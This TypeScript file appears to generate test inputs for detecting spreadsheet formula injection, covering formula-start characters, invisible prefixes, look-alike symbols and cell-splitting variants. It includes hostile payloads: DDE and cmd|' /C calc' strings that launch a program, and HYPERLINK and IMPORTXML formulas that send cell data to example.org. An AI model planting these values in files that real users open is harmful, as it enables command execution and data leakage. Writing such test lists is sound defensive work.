/** What spreadsheets take for the beginning of a formula, in the widths that they read alike. */
const STARTS = [...'=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻'];

/** What may stand before it, unseen or dropped by the reader of the file. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u200f', '\0', '\u3000', '\u034f', '\ufe0f'];

/** What ends the cell before it, for readers that split at other characters or take no quotes. */
const SPLITS = [',', ';', '\t', '|', '\r\n', '\n', '","', '";"', '\u2028', "'\n"];

/** Cells that a spreadsheet would calculate, by themselves or once their line is split another way. */
export function formulaStarts(): readonly string[] {
  const starts = STARTS.flatMap((start) => BEFORE.map((before) => `${before}${start}1+1`));
  const split = STARTS.slice(0, 8).flatMap((start) => SPLITS.map((end) => `a${end}${start}1+1${end}b`));
  return [
    ...starts,
    ...split,
    ...['=', '+', '-', '@'].flatMap((start) => [
      start,
      `${start}cmd|' /C calc'!A0`,
      `${start}HYPERLINK("https://example.org/?"&A1,"open")`,
      `${start}IMPORTXML(CONCAT("https://example.org/",A1),"//a")`,
      `"${start}1"`,
      `'${start}1`,
      `${start.repeat(50)}`,
    ]),
    'DDE("cmd";"/C calc";"x")',
    'sep=;',
    '%0A=1+1',
  ];
}
